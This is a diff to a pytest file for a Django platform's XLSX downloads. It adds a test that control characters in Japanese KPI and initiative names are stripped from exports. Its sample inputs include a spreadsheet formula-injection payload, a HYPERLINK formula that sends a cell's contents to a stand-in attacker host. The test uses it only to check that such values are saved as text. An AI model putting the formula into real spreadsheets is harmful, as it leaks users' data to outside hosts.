@@ -7,6 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from dx_platform.core.downloads import table_response
+from tests.coordination.conftest import make_initiative, make_kpi
 
 TYPED = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+81-3-1234", "@SUM(A1)", "-2+3", "\tx"]
 HEADER = ["text", "number"]
@@ -38,3 +39,19 @@ def test_xlsx_stores_typed_text_as_text_never_as_a_formula():
     assert [text.value for text, _ in cells] == TYPED
     assert {text.data_type for text, _ in cells} == {"s"}
     assert {number.value for _, number in cells} == {2.5}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("what", ["kpis", "roadmaps"])
+def test_a_name_with_a_control_character_still_downloads_as_xlsx_without_it(client, region, people, what):
+    """A name pasted from another system may carry a form feed or a vertical tab: the download drops it."""
+    town = region["home"]["town"].municipality
+    if what == "kpis":
+        make_kpi(town, name="オンライン\x0c申請率")
+    else:
+        make_initiative(town, title="書かない\x0b窓口")
+    client.force_login(people["viewer"])
+    response = client.get(f"/assessments/{town.code}/{what}/?format=xlsx")
+    assert response.status_code == 200
+    cells = {cell.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row}
+    assert ("オンライン申請率" if what == "kpis" else "書かない窓口") in cells
